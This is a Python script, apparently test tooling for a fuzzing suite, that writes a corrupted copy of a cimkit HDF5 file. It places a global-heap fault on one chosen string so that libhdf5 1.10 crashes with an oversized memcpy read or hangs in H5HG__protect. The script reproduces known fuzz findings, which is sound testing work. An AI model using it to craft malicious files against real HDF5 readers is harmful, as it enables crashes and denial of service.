"""Writes a copy of a cimkit HDF5 file with the global-heap corruption of the libhdf5 fuzz findings
(tests/fuzz/libhdf5_faults/README.md) placed on one chosen variable-length string, so that a reader
reaching that string hits libhdf5 1.10's fault instead of an earlier, harmless error.

Usage: corrupt_global_heap.py SOURCE.h5 DEST.h5 crash|hang STRING
  crash: the size of the heap object holding STRING becomes 0x40000001 (as in the memcpy finding);
         H5HG_read then copies a gigabyte out of a 4 KB heap and the process dies (SIGSEGV).
  hang:  the header of the heap object after STRING is zeroed (as in the hang finding); libhdf5
         then spins in H5HG__protect for minutes.
Only the first global heap collection ("GCOL") is searched; STRING must be one of its objects."""
import struct
import sys

# Global heap collection: "GCOL", version, 3 reserved bytes, collection size (8 bytes); then objects
# of index (2), reference count (2), reserved (4), size (8) and the data padded to 8 bytes. Index 0
# is the free space that ends the list.
COLLECTION_HEADER = 16
OBJECT_HEADER = 16


def heap_objects(data):
    start = data.find(b"GCOL")
    if start < 0:
        sys.exit("no global heap collection in the file")
    (size,) = struct.unpack_from("<Q", data, start + 8)
    objects, at = [], start + COLLECTION_HEADER
    while at < start + size:
        index, _, _, length = struct.unpack_from("<HHIQ", data, at)
        objects.append((at, bytes(data[at + OBJECT_HEADER:at + OBJECT_HEADER + length])))
        if index == 0:
            break
        at += OBJECT_HEADER + (length + 7) // 8 * 8
    return objects


def main():
    if len(sys.argv) != 5 or sys.argv[3] not in ("crash", "hang"):
        sys.exit(__doc__)
    source, dest, mode, target = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4].encode()
    data = bytearray(open(source, "rb").read())
    objects = heap_objects(data)
    found = [n for n, (_, value) in enumerate(objects) if value == target]
    if not found:
        sys.exit(f"no heap object holds {target!r}")
    header = objects[found[0]][0]
    if mode == "crash":
        struct.pack_into("<Q", data, header + 8, 0x40000001)
    else:
        after = objects[found[0] + 1][0]
        data[after:after + OBJECT_HEADER] = bytes(OBJECT_HEADER)
    with open(dest, "wb") as out:
        out.write(data)


if __name__ == "__main__":
    main()
